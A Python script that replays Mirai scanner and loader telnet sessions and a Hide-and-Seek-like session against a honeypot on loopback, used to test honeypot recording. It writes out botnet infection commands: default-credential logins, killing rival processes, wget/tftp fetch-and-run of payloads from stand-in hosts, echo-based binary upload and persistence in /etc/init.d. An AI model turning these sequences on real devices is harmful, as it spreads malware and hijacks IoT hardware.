#!/usr/bin/env python3
"""Replay real botnet telnet dialogues against a honeypot (or `toride lab`) on loopback.

    replay.py ADDR PORT [--user U --password P] [--summary FILE] SESSION...

SESSION is one of
  scanner      the Mirai bot's scanner (mirai/bot/scanner.c): one connection with a wrong pair
               (it must see "ncorrect"), then one with the right pair up to "/bin/busybox MIRAI"
  loader-wget  the Mirai loader (loader/src/connection.c) on a device with wget: the wget upload
               of http://198.51.100.23:80/bins/mirai.<arch>, then ./dvrHelper
  loader-echo  the same loader on a device where it uploads by echo: a small synthetic ELF
               dropper (upnp) written 128 bytes a line as \\xHH, then ./upnp; ./dvrHelper
  hns          a Hide-and-Seek-like session rebuilt from the public descriptions (Bitdefender,
               Jan/May 2018): a telnet dictionary attack (wrong pairs, then a right one in the
               same connection), a payload fetched from the infecting peer's own server on a
               random high port by wget and by tftp, run, and copied to /etc/init.d (the May
               2018 persistence)

The dialogues follow data/credentials/mirai_telnet_sequences.tsv, which transcribes the released
Mirai source: every command is sent as the bot sends it (CR LF), and each step waits for what the
bot waits for (a prompt character, "ECCHI: applet not found", ...). Telnet options are answered as
Mirai answers them: DO NAWS -> WILL NAWS + SB NAWS 80x24, any other DO -> WONT, WILL -> DO.

198.51.100.0/24 is a documentation range (RFC 5737): the honeypot only records those URLs; this
script never contacts anything but ADDR:PORT. Every line sent is printed ("> line"); --summary
writes a JSON object {session: {user, password, failed_pairs, commands, urls, upload_sha256}}.
Exit status 0 when every dialogue reached its end as a real device would let it. Python 3
standard library only.
"""
import argparse
import hashlib
import json
import socket
import sys
import time

IAC, DONT, DO, WONT, WILL, SB, SE = 255, 254, 253, 252, 251, 250, 240
NAWS = 31
STEP_TIMEOUT = 10.0
TOKEN_QUERY = "/bin/busybox ECCHI"
TOKEN_RESPONSE = "ECCHI: applet not found"
EXEC_QUERY = "/bin/busybox IHCCE"
EXEC_RESPONSE = "IHCCE: applet not found"
FN_DROPPER = "upnp"
FN_BINARY = "dvrHelper"
VERIFY_STRING_HEX = "\\x6b\\x61\\x6d\\x69"  # "kami"
LOADER_HOST = "198.51.100.23"  # documentation address: recorded by the honeypot, never contacted
LOADER_PORT = 80
ID_TAG = "mirai"
HNS_PEER = "198.51.100.77"
HNS_PORT = 23456
PROMPT_CHARS = b":>$#%"


class Telnet:
    """A telnet client that answers options like Mirai's connection_consume_iacs()."""

    def __init__(self, addr, port):
        self.sock = socket.create_connection((addr, port), timeout=STEP_TIMEOUT)
        self.raw = b""   # bytes not yet parsed (a split IAC sequence)
        self.buf = b""   # application bytes received and not consumed yet
        self.closed = False

    def _feed(self, data):
        self.raw += data
        out = bytearray()
        i = 0
        r = self.raw
        while i < len(r):
            c = r[i]
            if c != IAC:
                out.append(c)
                i += 1
                continue
            if i + 1 >= len(r):
                break
            cmd = r[i + 1]
            if cmd == IAC:
                out.append(IAC)
                i += 2
            elif cmd in (DO, DONT, WILL, WONT):
                if i + 2 >= len(r):
                    break
                opt = r[i + 2]
                if cmd == DO and opt == NAWS:
                    self.sock.sendall(bytes([IAC, WILL, NAWS, IAC, SB, NAWS, 0, 80, 0, 24, IAC, SE]))
                elif cmd == DO:
                    self.sock.sendall(bytes([IAC, WONT, opt]))
                elif cmd == WILL:
                    self.sock.sendall(bytes([IAC, DO, opt]))
                i += 3
            elif cmd == SB:
                end = r.find(bytes([IAC, SE]), i + 2)
                if end < 0:
                    break
                i = end + 2
            else:
                i += 2
        self.raw = r[i:]
        self.buf += bytes(out)

    def read_until(self, pred, timeout=STEP_TIMEOUT):
        """Read until pred(buf) is true; returns (True, text) and consumes it, or (False, text)."""
        end = time.monotonic() + timeout
        while not pred(self.buf):
            left = end - time.monotonic()
            if left <= 0 or self.closed:
                return False, self.buf
            self.sock.settimeout(min(left, 0.5))
            try:
                data = self.sock.recv(65536)
            except socket.timeout:
                continue
            except OSError:
                self.closed = True
                continue
            if not data:
                self.closed = True
                continue
            self._feed(data)
        got = self.buf
        self.buf = b""
        return True, got

    def until_text(self, text, timeout=STEP_TIMEOUT):
        t = text.encode()
        return self.read_until(lambda b: t in b, timeout)

    def until_prompt(self, timeout=STEP_TIMEOUT):
        # A prompt: the last non-blank byte is one of : > $ # % (the bot's and loader's test).
        return self.read_until(lambda b: b.rstrip(b" ")[-1:] in [bytes([c]) for c in PROMPT_CHARS]
                               if b.rstrip(b" ") else False, timeout)

    def send(self, line, log):
        print("> " + line, flush=True)
        log.append(line)
        self.sock.sendall(line.encode("latin-1") + b"\r\n")

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


def login_prompt(b):
    s = b.rstrip(b" ")
    return (s[-1:] != b"" and s[-1] in PROMPT_CHARS) or b"ogin" in b or b"enter" in b


def password_prompt(b):
    s = b.rstrip(b" ")
    return (s[-1:] != b"" and s[-1] in PROMPT_CHARS) or b"assword" in b


class Failure(Exception):
    pass


def need(ok, what, got=b""):
    if not ok:
        raise Failure("%s (got %r)" % (what, got[-300:]))


def telnet_login(c, user, password, log, wait=True):
    if wait:
        ok, got = c.read_until(login_prompt)
        need(ok, "login prompt", got)
    c.send(user, log)
    ok, got = c.read_until(password_prompt)
    need(ok, "password prompt", got)
    c.send(password, log)


def scanner(addr, port, user, password, summary):
    """Mirai's scanner: a wrong pair is reported by "ncorrect", the right one by MIRAI's reply."""
    rec = summary.setdefault("scanner", {"user": user, "password": password, "commands": [], "urls": [],
                                         "failed_pairs": []})
    wrong = (user, "mirai-wrong-0")
    c = Telnet(addr, port)
    try:
        log = []
        telnet_login(c, wrong[0], wrong[1], log)
        ok, got = c.read_until(lambda b: b"ncorrect" in b)
        need(ok and b"ncorrect" in got, "a wrong pair is refused with 'incorrect'", got)
        rec["failed_pairs"].append(list(wrong))
    finally:
        c.close()
    c = Telnet(addr, port)
    try:
        log = []
        telnet_login(c, user, password, log)
        ok, got = c.until_prompt()
        need(ok and b"ncorrect" not in got, "shell prompt after login", got)
        for cmd in ("enable", "system", "shell", "sh"):
            c.send(cmd, rec["commands"])
            ok, got = c.until_prompt()
            need(ok, "prompt after " + cmd, got)
        c.send("/bin/busybox MIRAI", rec["commands"])
        ok, got = c.until_text("MIRAI: applet not found")
        need(ok, "MIRAI: applet not found", got)
    finally:
        c.close()


def parse_ps_kills(text):
    """The loader's connection_consume_psoutput(): kill a second init and numeric names > pid 400."""
    kills = []
    for line in text.replace("\r", "").split("\n"):
        f = line.split()
        if len(f) < 2 or not f[0].isdigit():
            continue
        pid = int(f[0])
        name = f[4] if len(f) > 4 else f[-1]
        if pid != 1 and name in ("init", "[init]"):
            kills.append(pid)
        elif pid > 400 and name and name[0].isdigit() and not any(ch.isalpha() for ch in name):
            kills.append(pid)
    return kills


def dropper_elf():
    """A small synthetic ARM ELF (header + filler): the loader's echo upload, never a real program."""
    hdr = bytearray(52)
    hdr[0:4] = b"\x7fELF"
    hdr[4], hdr[5], hdr[6] = 1, 1, 1            # 32-bit, little endian, version 1
    hdr[16], hdr[18], hdr[20] = 2, 40, 1        # ET_EXEC, EM_ARM, EV_CURRENT
    hdr[40] = 52                                # e_ehsize
    body = bytes((i * 37 + 11) & 0xff for i in range(300))
    return bytes(hdr) + b"toride replay dropper (synthetic, not executable)\x00" + body


def loader(addr, port, user, password, method, summary):
    name = "loader-" + method
    rec = summary.setdefault(name, {"user": user, "password": password, "commands": [], "urls": [],
                                    "failed_pairs": []})
    cmds = rec["commands"]
    c = Telnet(addr, port)
    try:
        telnet_login(c, user, password, [])
        ok, got = c.until_prompt()
        need(ok, "prompt after login", got)
        # Steps 3-6: enable, shell, sh back to back, then the token check.
        for cmd in ("enable", "shell", "sh"):
            c.send(cmd, cmds)
        c.send(TOKEN_QUERY, cmds)
        ok, got = c.until_text(TOKEN_RESPONSE)
        need(ok, "step 6 token", got)
        # Step 7: ps, kill competitors.
        c.send("/bin/busybox ps; " + TOKEN_QUERY, cmds)
        ok, got = c.until_text(TOKEN_RESPONSE)
        need(ok and b"PID" in got, "step 7 ps", got)
        for pid in parse_ps_kills(got.decode("latin-1")):
            c.send("/bin/busybox kill -9 %d" % pid, cmds)
        # Step 8-11: mounts, a write test per rw mount and /dev.
        c.send("/bin/busybox cat /proc/mounts; " + TOKEN_QUERY, cmds)
        ok, got = c.until_text(TOKEN_RESPONSE)
        need(ok and b"/proc" in got, "step 8 mounts", got)
        for line in got.decode("latin-1").replace("\r", "").split("\n"):
            f = line.split()
            if len(f) >= 4 and "rw" in f[3]:
                path = f[1].rstrip("/")
                c.send("/bin/busybox echo -e '%s%s' > %s/.nippon; /bin/busybox cat %s/.nippon; "
                       "/bin/busybox rm %s/.nippon" % (VERIFY_STRING_HEX, path, path, path, path), cmds)
        c.send("/bin/busybox echo -e '%s/dev' > /dev/.nippon; /bin/busybox cat /dev/.nippon; "
               "/bin/busybox rm /dev/.nippon" % VERIFY_STRING_HEX, cmds)
        c.send(TOKEN_QUERY, cmds)
        ok, got = c.until_text(TOKEN_RESPONSE)
        need(ok, "step 11 token", got)
        writable = []
        for line in got.decode("latin-1").replace("\r", "").split("\n"):
            k = line.find("kami")
            if k >= 0 and line[k + 4:].startswith("/"):
                writable.append(line[k + 4:].strip())
        need(writable, "a writable directory ('kami' echoed back)", got)
        for d in writable:
            c.send("rm %s/.t; rm %s/.sh; rm %s/.human" % (d, d, d), cmds)
        wdir = writable[0]
        # Steps 13-16: the binary's file, the ELF header of /bin/echo for the architecture.
        c.send("cd %s/" % wdir, cmds)
        c.send("/bin/busybox cp /bin/echo %s; >%s; /bin/busybox chmod 777 %s; %s"
               % (FN_BINARY, FN_BINARY, FN_BINARY, TOKEN_QUERY), cmds)
        ok, got = c.until_text(TOKEN_RESPONSE)
        need(ok, "step 14 token", got)
        c.send("/bin/busybox cat /bin/echo", cmds)
        c.send(TOKEN_QUERY, cmds)
        ok, got = c.until_text(TOKEN_RESPONSE)
        k = got.find(b"ELF")
        need(ok and k >= 1, "step 15 ELF header", got)
        ehdr = got[k - 1:k + 51]
        big = ehdr[5] == 2
        machine = int.from_bytes(ehdr[18:20], "big" if big else "little")
        arch = {40: "arm", 183: "arm", 8: "mips" if big else "mpsl", 3: "x86", 62: "x86", 2: "spc", 4: "m68k",
                20: "ppc", 42: "sh4"}.get(machine)
        need(arch is not None, "known e_machine %d" % machine, got)
        # Step 17: ARMv7 sub-type.
        c.send("cat /proc/cpuinfo; " + TOKEN_QUERY, cmds)
        ok, got = c.until_text(TOKEN_RESPONSE)
        need(ok, "step 17 cpuinfo", got)
        if arch == "arm" and (b"ARMv7" in got or b"ARMv6" in got):
            arch = "arm7"
        # Step 18: upload methods.
        c.send("/bin/busybox wget; /bin/busybox tftp; " + TOKEN_QUERY, cmds)
        ok, got = c.until_text(TOKEN_RESPONSE)
        need(ok, "step 18 upload methods", got)
        has_wget = b"wget: applet not found" not in got
        if method == "wget":
            need(has_wget, "wget present", got)
            url = "http://%s:%d/bins/%s.%s" % (LOADER_HOST, LOADER_PORT, ID_TAG, arch)
            rec["urls"].append(url)
            c.send("/bin/busybox wget %s -O - > %s; /bin/busybox chmod 777 %s; %s"
                   % (url, FN_BINARY, FN_BINARY, TOKEN_QUERY), cmds)
            ok, got = c.until_text(TOKEN_RESPONSE)
            need(ok, "step 19a token", got)
            c.send("./%s %s.%s; %s" % (FN_BINARY, ID_TAG, arch, EXEC_QUERY), cmds)
        else:
            # Step 19c: the echo upload (as on a device where wget and tftp are missing).
            c.send("/bin/busybox cp %s %s; > %s; /bin/busybox chmod 777 %s; %s"
                   % (FN_BINARY, FN_DROPPER, FN_DROPPER, FN_DROPPER, TOKEN_QUERY), cmds)
            ok, got = c.until_text(TOKEN_RESPONSE)
            need(ok, "step 19c token", got)
            payload = dropper_elf()
            rec["upload_sha256"] = hashlib.sha256(payload).hexdigest()
            rec["upload_path"] = "%s/%s" % (wdir, FN_DROPPER)
            for k in range(0, len(payload), 128):
                hexs = "".join("\\x%02x" % b for b in payload[k:k + 128])
                c.send("echo -ne '%s' %s %s; %s" % (hexs, ">" if k == 0 else ">>", FN_DROPPER, TOKEN_QUERY), cmds)
                ok, got = c.until_text(TOKEN_RESPONSE)
                need(ok, "echo line token", got)
            c.send("./%s; ./%s %s.%s; %s" % (FN_DROPPER, FN_BINARY, ID_TAG, arch, EXEC_QUERY), cmds)
        # Step 20: the run; "listening tun0" would mean the bot started (it never runs here).
        ok, got = c.until_text(EXEC_RESPONSE)
        need(ok, "step 20 exec token", got)
        rec["bot_started"] = b"listening tun0" in got
        # Step 21: cleanup.
        c.send("rm -rf %s; > %s; %s" % (FN_DROPPER, FN_BINARY, TOKEN_QUERY), cmds)
        ok, got = c.until_text(TOKEN_RESPONSE)
        need(ok, "step 21 token", got)
    finally:
        c.close()


def hns(addr, port, user, password, summary):
    """Hide-and-Seek-like: dictionary attack in one connection, payload from the peer's own port."""
    rec = summary.setdefault("hns", {"user": user, "password": password, "commands": [], "urls": [],
                                     "failed_pairs": []})
    cmds = rec["commands"]
    c = Telnet(addr, port)
    try:
        ok, got = c.read_until(login_prompt)
        need(ok, "login prompt", got)
        for u, p in (("admin", "hns-dict-1"), ("root", "hns-dict-2")):
            telnet_login(c, u, p, [], wait=False)
            # "Login incorrect", then the device asks again in the same connection.
            ok, got = c.read_until(lambda b: b"ncorrect" in b and login_prompt(b[b.find(b"ncorrect") + 8:]))
            need(ok, "wrong pair %s/%s refused" % (u, p), got)
            rec["failed_pairs"].append([u, p])
        telnet_login(c, user, password, [], wait=False)
        ok, got = c.until_prompt()
        need(ok and b"ncorrect" not in got, "shell after the dictionary", got)
        url = "http://%s:%d/arm7" % (HNS_PEER, HNS_PORT)
        rec["urls"] += [url, "tftp://%s:%d/arm7" % (HNS_PEER, HNS_PORT)]
        for cmd in ("cd /tmp || cd /var/tmp || cd /dev/shm",
                    "uname -m; cat /proc/cpuinfo | grep -c processor",
                    "wget %s -O /tmp/.hns || tftp -g -l /tmp/.hns -r arm7 %s %d" % (url, HNS_PEER, HNS_PORT),
                    "chmod 777 /tmp/.hns; /tmp/.hns &",
                    "cp /tmp/.hns /etc/init.d/hns; echo done"):
            c.send(cmd, cmds)
            ok, got = c.until_prompt()
            need(ok, "prompt after " + cmd, got)
        c.send("exit", cmds)
        c.read_until(lambda b: False, timeout=1.0)
        need(c.closed, "exit closes the session")
    finally:
        c.close()


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("addr")
    ap.add_argument("port", type=int)
    ap.add_argument("sessions", nargs="+", choices=["scanner", "loader-wget", "loader-echo", "hns"])
    ap.add_argument("--user", default="root")
    ap.add_argument("--password", default="xc3511")
    ap.add_argument("--summary")
    a = ap.parse_args()
    if not a.addr.startswith("127."):
        print("replay.py: only loopback addresses (127.0.0.0/8)", file=sys.stderr)
        return 2
    summary = {}
    fails = 0
    for s in a.sessions:
        print("== " + s, flush=True)
        try:
            if s == "scanner":
                scanner(a.addr, a.port, a.user, a.password, summary)
            elif s == "hns":
                hns(a.addr, a.port, a.user, a.password, summary)
            else:
                loader(a.addr, a.port, a.user, a.password, s.split("-")[1], summary)
            print("  ok   " + s, flush=True)
        except (Failure, OSError) as e:
            print("  FAIL %s: %s" % (s, e), flush=True)
            fails += 1
    if a.summary:
        with open(a.summary, "w") as f:
            json.dump(summary, f, indent=1)
    return 1 if fails else 0


if __name__ == "__main__":
    sys.exit(main())
